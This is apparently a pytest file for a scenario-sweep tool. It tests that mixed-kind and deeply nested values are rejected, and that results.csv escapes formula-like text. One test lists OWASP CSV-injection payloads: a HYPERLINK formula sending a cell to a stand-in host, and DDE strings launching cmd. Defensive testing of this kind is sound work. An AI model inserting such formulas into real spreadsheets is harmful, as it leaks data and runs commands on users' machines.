"""A sweep's values of more than one kind are refused when the file is read, before any variant
runs or anything is written (issue 16, case 11)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from invoke import summit

#: A grid over one key of the five-year aid scenario, with the values left to the test.
GRID = """\
[sweep]
base = "ukraine-2026-2030"
design = "grid"
draws = 20

[[sweep.parameters]]
key = "{key}"
values = {values}
"""


@pytest.mark.parametrize(("key", "values", "kinds"), [
    # A need takes a number or a {mean, sd} table: both valid, but not in one column.
    ("aid.needs.2026", "[60e9, { mean = 60e9, sd = 1e9 }]", "value 0 is a number, value 1 is "
                                                            "a table"),
    ("defaults.growth.mean", '[0.02, "abc"]', "value 0 is a number, value 1 is a string"),
    ("defaults.plans.enabled", "[true, 1]", "value 0 is a boolean, value 1 is a number"),
], ids=["number-and-table", "number-and-string", "boolean-and-number"])
def test_values_of_mixed_kinds_are_refused_before_anything_runs(
        write_toml, tmp_path: Path, capsys, key: str, values: str, kinds: str) -> None:
    path = write_toml(GRID.format(key=key, values=values), "sweep.toml")
    out = tmp_path / "out"
    status, _, err = summit(capsys, "sweep", str(path), "--out", str(out))
    assert status == 2 and "Traceback" not in err and err.count("\n") == 1, err
    assert err.startswith(f"{path}: sweep.parameters.0.values: must all be of one kind: {kinds}")
    assert not out.exists()


def test_integers_and_floats_are_one_kind(write_toml, capsys) -> None:
    path = write_toml(GRID.format(key="defaults.growth.mean", values="[0, 0.02]"), "sweep.toml")
    status, out, err = summit(capsys, "validate", str(path))
    assert status == 0, err
    assert "ok (sweep, 2 variants" in out


#: Texts a spreadsheet would run as formulas (OWASP's CSV injection examples).
FORMULAS = ['=HYPERLINK("http://example.invalid/?q="&A1, "click")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]


def test_results_csv_quotes_text_a_spreadsheet_would_run(write_toml, tmp_path: Path,
                                                          capsys) -> None:
    """A user's string in results.csv starts with a quote when it would start a formula; the
    Parquet table keeps it as written."""
    import pandas as pd

    values = json.dumps(FORMULAS)  # a JSON array of strings is a TOML one
    path = write_toml(GRID.format(key="scenario.description", values=values)
                      .replace("ukraine-2026-2030", "baseline"), "sweep.toml")
    out = tmp_path / "out"
    status, _, err = summit(capsys, "sweep", str(path), "--out", str(out))
    assert status == 0, err
    written = pd.read_csv(out / "results.csv", keep_default_na=False)
    assert list(written["scenario.description"]) == ["'" + text for text in FORMULAS]
    kept = pd.read_parquet(out / "results.parquet")
    assert list(kept["scenario.description"]) == FORMULAS


@pytest.mark.parametrize("depth", [40, 500])
def test_deeply_nested_values_are_refused_in_one_line(write_toml, capsys, depth: int) -> None:
    """tomllib recurses at 500 levels; the loaders' walks would at a few hundred."""
    values = "[" * depth + "0.02" + "]" * depth
    path = write_toml(GRID.format(key="defaults.growth.mean", values=values), "sweep.toml")
    status, _, err = summit(capsys, "validate", str(path))
    assert status == 2 and "Traceback" not in err and err.count("\n") == 1, err
    assert err.startswith(f"{path}: ") and err.endswith("nests arrays or tables more than 32 "
                                                        "deep\n")
